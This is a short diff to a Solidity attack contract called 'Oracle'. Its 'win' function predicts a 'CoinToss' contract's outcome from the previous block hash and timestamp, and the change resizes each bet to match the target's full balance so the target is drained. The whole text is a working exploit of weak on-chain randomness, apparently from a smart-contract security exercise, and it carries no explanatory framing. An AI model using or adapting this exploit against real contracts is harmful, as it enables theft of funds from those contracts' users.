@@ -8,7 +8,9 @@ contract Oracle {
 
     function win(CoinToss target) external {
         uint256 coin = uint256(keccak256(abi.encode(blockhash(block.number - 1), block.timestamp))) % 2;
-        target.toss{value: 1 ether}(coin == 1);
+        uint256 bank = address(target).balance;
+        uint256 bet = address(this).balance < bank ? address(this).balance : bank;
+        target.toss{value: bet}(coin == 1);
     }
 
     receive() external payable {}
